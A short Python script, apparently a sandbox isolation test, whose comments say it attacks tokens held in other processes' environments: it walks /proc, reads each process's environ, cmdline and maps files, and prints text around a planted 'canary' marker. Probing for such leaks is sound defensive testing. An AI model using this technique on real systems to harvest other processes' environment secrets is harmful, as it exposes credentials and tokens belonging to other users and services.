# attacks: tokens in the environment of other processes, through /proc
# success: one is shown
# %% before
import os

try:
    _all = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    _all = [str(number) for number in range(os.getpid() - 50, os.getpid() + 1)]
for _pid in ["self", "thread-self", str(os.getppid()), *_all]:
    for _name in ("environ", "cmdline", "maps"):
        try:
            _text = open(f"/proc/{_pid}/{_name}", "rb").read()
            if b"canary" in _text:
                print(_text[max(0, _text.find(b"canary") - 50) :][:100])
        except OSError:
            pass
